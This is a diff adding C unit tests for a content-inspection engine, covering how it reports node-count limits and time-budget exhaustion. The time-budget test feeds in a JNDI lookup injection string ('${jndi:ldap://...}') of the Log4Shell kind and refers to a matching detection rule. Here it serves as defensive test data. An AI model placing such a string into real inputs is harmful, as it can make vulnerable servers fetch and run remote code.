@@ -422,6 +422,43 @@ START_TEST(limits_are_reported_and_inspection_goes_on)
 	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
 	pol_result_free(r);
 	pol_engine_free(e);
+
+	/* too many values for a tree: reported, and the raw text still seen */
+	/* write_tmp reuses its buffer: keep each path */
+	char *pp[] = {strdup(write_tmp("marker2.json", marker_policy)),
+		      strdup(write_tmp("nodes.json", "{\"limits\":{\"nodes\":1000}}"))};
+	ck_assert_int_eq(pol_engine_new(&e, (const char *const *)pp, 2, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	free(pp[0]);
+	free(pp[1]);
+	struct vg_buf many = VG_BUF_INIT(1 << 20);
+	vg_buf_putc(&many, '[');
+	for (int i = 0; i < 3000; i++)
+		vg_buf_puts(&many, "1,");
+	vg_buf_puts(&many, "\"vigilmarker\"]");
+	ck_assert_int_eq(pol_inspect(e, many.data, many.len, &r), 0);
+	ck_assert(has_rule(r, "limit.nodes"));
+	ck_assert(has_rule(r, "test.marker"));
+	ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
+	pol_result_free(r);
+	vg_buf_fini(&many);
+	pol_engine_free(e);
+
+	/* the time budget: the event passes, flagged */
+	const char *bp[] = {write_tmp("budget.json", "{\"limits\":{\"budget_us\":10}}")};
+	ck_assert_int_eq(pol_engine_new(&e, bp, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	struct vg_buf slow = VG_BUF_INIT(1 << 22);
+	vg_buf_putc(&slow, '[');
+	for (int i = 0; i < 20000; i++)
+		vg_buf_puts(&slow, "\"Mary O'Brien, please select the blue one (or the red).\",");
+	vg_buf_puts(&slow, "\"${jndi:ldap://e/a}\"]");
+	ck_assert_int_eq(pol_inspect(e, slow.data, slow.len, &r), 0);
+	ck_assert(pol_result_budget_exhausted(r));
+	ck_assert(has_rule(r, "limit.time_budget"));
+	ck_assert(!has_rule(r, "jndi.lookup")); /* never reached */
+	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
+	pol_result_free(r);
+	vg_buf_fini(&slow);
+	pol_engine_free(e);
 }
 END_TEST
 
